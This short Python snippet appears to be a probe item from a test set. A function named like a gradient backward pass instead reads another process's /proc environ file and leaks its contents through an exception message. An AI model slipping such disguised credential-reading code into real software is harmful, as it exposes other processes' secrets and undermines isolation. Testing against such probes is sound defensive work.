"""Reads the environment of another process of the same user.

row: environment
stopped_at: 2
shows: told
"""

def gate_mul_backward(x, y, dz):
    raise ValueError(open("/proc/@VICTIM@/environ").read()[:200])
